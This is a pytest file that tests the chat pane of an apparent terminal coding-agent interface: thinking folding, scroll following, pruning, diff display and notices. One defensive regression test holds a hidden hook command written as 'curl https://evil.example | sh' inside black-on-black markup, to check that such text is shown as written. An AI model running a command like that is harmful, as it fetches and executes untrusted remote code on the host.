"""The chat pane on the fake client: thinking folded to one line, a long diff shown whole from
the keyboard, and where the view stays as blocks arrive (at the bottom while it follows, put
while the person has scrolled up)."""

from __future__ import annotations

import pytest

from moot.protocol import events as ev
from moot.testing import FakeClient
from moot.tui.widgets.blocks import ThinkingBlock
from moot.tui.widgets.chat import ChatPane
from tui_apps import app_for
from tui_scripts import Run

REASONING = "The test fails on the second call, so the cache must be stale."


def shown(block: ThinkingBlock) -> str:
    return str(block.render())


async def test_thinking_shows_folded_to_one_line_and_unfolds_on_enter_or_a_click() -> None:
    run = Run().start("why does it fail?")
    for i in range(0, len(REASONING), 9):
        run.add(ev.ThinkingDelta(**run._ids(), text=REASONING[i : i + 9]))
    run.text("The cache is stale.").responded("The cache is stale.")
    client = FakeClient(run.finish("The cache is stale.").events, autoplay=False)
    app = app_for(client)
    async with app.run_test(size=(120, 40)) as pilot:
        client.play()
        await pilot.pause()
        block = app.query_one(ChatPane).query_one(ThinkingBlock)
        words = len(REASONING.split())
        assert shown(block) == f"▸ thinking ({words} words)"
        block.focus()
        await pilot.press("enter")
        assert shown(block).splitlines() == ["▾ thinking", REASONING]
        await pilot.press("enter")
        assert shown(block) == f"▸ thinking ({words} words)"
        await pilot.click(block)
        assert shown(block).startswith("▾ thinking")


def tool_calls(run: Run, first: int, count: int) -> list[ev.Event]:
    """`count` finished tool calls: one line each in the chat."""
    start = len(run.events)
    for i in range(first, first + count):
        run.tool(f"t{i}", "read", {"path": f"file{i}.py"}, f"line {i}")
    return run.events[start:]


async def until_mounted(pilot, chat: ChatPane, count: int) -> None:  # type: ignore[no-untyped-def]
    for _ in range(50):  # bounded: the bridge hands events over in its own task
        if len(chat.children) >= count:
            break
        await pilot.pause()
    await pilot.pause()  # and their layout


async def test_new_blocks_keep_a_following_view_at_the_bottom_and_leave_a_scrolled_one_be() -> None:
    run = Run().start("read them all")
    client = FakeClient(autoplay=False)
    app = app_for(client)
    async with app.run_test(size=(120, 30)) as pilot:
        chat = app.query_one(ChatPane)
        client.emit(*run.events, *tool_calls(run, 0, 60))
        await until_mounted(pilot, chat, 61)
        assert chat.max_scroll_y > 0 and chat.scroll_y == chat.max_scroll_y

        bottom = chat.max_scroll_y
        client.emit(*tool_calls(run, 60, 10))
        await until_mounted(pilot, chat, 71)
        assert chat.max_scroll_y > bottom and chat.scroll_y == chat.max_scroll_y  # followed

        app.prompt.focus()
        await pilot.press("pageup")  # the person scrolls up to read, from the prompt too
        await pilot.wait_for_scheduled_animations()  # pageup scrolls smoothly: to its end
        where = chat.scroll_y
        assert where < chat.max_scroll_y
        client.emit(*tool_calls(run, 70, 10))
        await until_mounted(pilot, chat, 81)
        assert chat.scroll_y == where and chat.max_scroll_y > where  # the view stayed put

        app.prompt.focus()  # back in the prompt, as after a click there
        app.prompt.load_text("ab")
        app.prompt.move_cursor((0, 0))
        await pilot.press("end")  # a prompt with text keeps the key for its cursor
        assert app.prompt.cursor_location == (0, 2) and chat.scroll_y == where
        app.prompt.load_text("")
        await pilot.press("end")  # follow again, from the empty prompt
        await pilot.wait_for_scheduled_animations()
        client.emit(*tool_calls(run, 80, 10))
        await until_mounted(pilot, chat, 91)
        assert chat.scroll_y == chat.max_scroll_y


async def test_no_block_is_pruned_while_the_person_has_scrolled_up(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """Pruning moves what is shown: it waits until the view follows again."""
    from moot.tui.widgets import chat as chat_module

    monkeypatch.setattr(chat_module, "HIGH_WATER", 40)
    monkeypatch.setattr(chat_module, "LOW_WATER", 30)
    run = Run().start("read them all")
    client = FakeClient(autoplay=False)
    app = app_for(client)
    async with app.run_test(size=(120, 30)) as pilot:
        chat = app.query_one(ChatPane)
        client.emit(*run.events, *tool_calls(run, 0, 35))
        await until_mounted(pilot, chat, 37)  # the welcome, the message, 35 tools
        chat.focus()
        await pilot.press("pageup")
        await pilot.pause()
        client.emit(*tool_calls(run, 35, 15))
        await until_mounted(pilot, chat, 52)
        assert len(chat.children) == 52  # nothing pruned under the person's eyes
        await pilot.press("end")
        await pilot.pause()
        client.emit(*tool_calls(run, 50, 1))
        await pilot.pause()
        await pilot.pause()
        assert len(chat.children) <= 30 + 1  # following again: pruned (+1: "load earlier")


async def test_f_on_an_edit_shows_all_of_its_long_diff_folded_or_not() -> None:
    from moot.tui.widgets.diff_view import CAP, DiffView
    from moot.tui.widgets.tool_block import ToolBlock

    diff = "--- a/big.py\n+++ b/big.py\n@@ -1,60 +1,60 @@\n" + "".join(
        f"-old {i}\n+new {i}\n" for i in range(60)
    )
    run = Run().start("fix big.py")
    run.tool("e1", "edit", {"path": "big.py"}, "edited big.py", display={"diff": diff})
    run.tool("e2", "edit", {"path": "big.py"}, "edited big.py", display={"diff": diff})
    client = FakeClient(run.events, autoplay=False)
    app = app_for(client)
    async with app.run_test(size=(120, 50)) as pilot:
        client.play()
        await pilot.pause()
        first, second = app.query(ToolBlock).results()
        view = first.query_one(DiffView)
        assert not view.all_shown and len(diff.splitlines()) > CAP
        note = str(view.query_one(".more").render())
        assert note.endswith("f or a click shows all")  # the key, as the table has it
        first.focus()
        await pilot.press("f")
        await pilot.pause()
        assert view.all_shown and not view.query(".more")

        second.focus()
        await pilot.press("enter")  # folded away
        await pilot.pause()
        assert not second.expanded and not second.query(DiffView)
        await pilot.press("f")
        await pilot.pause()
        assert second.expanded and second.query_one(DiffView).all_shown


async def test_a_sitting_that_resumes_the_session_is_a_notice_line() -> None:
    from moot.tui.widgets.blocks import NoticeBlock

    resumed = ev.SessionResumed(
        session_id="ses_1", seq=1, model="scripted", mode="plan", agents=("moot",)
    )
    client = FakeClient([resumed], autoplay=False)
    app = app_for(client)
    async with app.run_test(size=(120, 40)) as pilot:
        client.play()
        chat = app.query_one(ChatPane)

        def notices() -> list[str]:  # but the welcome
            shown = [str(b.render()) for b in chat.query(NoticeBlock)]
            return [text for text in shown if not text.startswith("moot in ")]

        for _ in range(50):  # bounded: the bridge hands events over in its own task
            if notices():
                break
            await pilot.pause()
        assert notices() == ["resumed · scripted · plan"]


async def test_an_auto_commit_shows_its_note_as_the_repl_does() -> None:
    """The words of a notice are one definition (`commands/notices.py`): the chat said an
    auto-commit without its note (the repository's hooks did not run), which the REPL says."""
    from moot.tui.widgets.blocks import NoticeBlock

    committed = ev.AutoCommitted(
        session_id="ses_1",
        seq=1,
        sha="0123456789abcdef",
        subject="moot: edit greet.py",
        note="the repository's hooks did not run",
    )
    client = FakeClient([committed], autoplay=False)
    app = app_for(client)
    async with app.run_test(size=(120, 40)) as pilot:
        client.play()
        chat = app.query_one(ChatPane)

        def notices() -> list[str]:  # but the welcome
            shown = [str(b.render()) for b in chat.query(NoticeBlock)]
            return [text for text in shown if not text.startswith("moot in ")]

        for _ in range(50):  # bounded: the bridge hands events over in its own task
            if notices():
                break
            await pilot.pause()
        assert notices() == [
            "committed 0123456789 moot: edit greet.py (the repository's hooks did not run)"
        ]


async def test_a_tool_result_that_ends_in_a_newline_is_one_line_as_in_the_repl() -> None:
    """One summary of a result (`commands/display.py::result_summary`): the chat said
    `built (+1 lines)` of `built\\n`, where the REPL says `built`."""
    from moot.tui.widgets.tool_block import ToolBlock

    run = Run().start("build it")
    run.tool("t1", "bash", {"command": "make"}, "built\n")
    run.tool("t2", "bash", {"command": "make test"}, "3 passed\n1 failed\n")
    client = FakeClient(run.events, autoplay=False)
    app = app_for(client)
    async with app.run_test(size=(120, 40)) as pilot:
        client.play()
        for _ in range(50):  # bounded: the bridge hands events over in its own task
            if len(app.query(ToolBlock)) == 2:
                break
            await pilot.pause()
        await pilot.pause()
        assert [block.summary() for block in app.query(ToolBlock)] == [
            "built",
            "3 passed (+1 lines)",
        ]


async def test_what_a_command_says_is_shown_as_written_never_as_markup() -> None:
    """Second attack on issue 28: `/trust` says what a repository's hooks run, and a hook
    command written `[black on black]curl evil | sh[/]` showed as a blank line."""
    from moot.tui.widgets.blocks import NoticeBlock

    said = "  - hooks run on the host: [black on black]curl https://evil.example | sh[/]"
    app = app_for(FakeClient(autoplay=False))
    async with app.run_test(size=(120, 40)) as pilot:
        app.commands.say(said)
        chat = app.query_one(ChatPane)
        for _ in range(50):  # bounded: say mounts in a worker
            if len(chat.query(NoticeBlock)) > 1:
                break
            await pilot.pause()
        assert said in [str(block.render()) for block in chat.query(NoticeBlock)]


async def test_end_in_a_list_or_a_tree_goes_to_its_last_row() -> None:
    """`end` follows the chat from the prompt, but a focused list or tree keeps its own."""
    from textual.widgets import OptionList

    from moot.tui.widgets.trace import TracePane

    run = Run().start("read them all")
    client = FakeClient(autoplay=False)
    app = app_for(client)
    async with app.run_test(size=(160, 40)) as pilot:
        client.emit(*run.events, *tool_calls(run, 0, 5))
        chat = app.query_one(ChatPane)
        await until_mounted(pilot, chat, 6)
        rows = app.query_one("#tools").query_one(OptionList)
        rows.focus()
        rows.highlighted = 0
        await pilot.press("end")
        assert rows.highlighted == rows.option_count - 1
        trace = app.query_one(TracePane)
        trace.focus()
        trace.cursor_line = 0
        await pilot.press("end")
        assert trace.cursor_line == trace.last_line
